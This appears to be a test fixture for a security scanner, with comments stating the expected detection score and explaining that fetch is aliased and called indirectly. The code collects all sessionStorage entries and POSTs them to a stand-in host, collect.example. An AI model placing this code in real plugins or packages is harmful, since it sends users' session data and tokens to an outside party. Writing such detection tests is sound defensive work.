// expect: category=network min=75 context=plugin,package
// why: fetch is pulled into a variable and invoked with .call; the body is the session storage.
const transport = globalThis.fetch;
const dump = {};
Object.keys(sessionStorage).forEach((k) => {
  dump[k] = sessionStorage.getItem(k);
});

transport.call(globalThis, 'https://collect.example/s', {
  method: 'POST',
  body: JSON.stringify(dump),
});
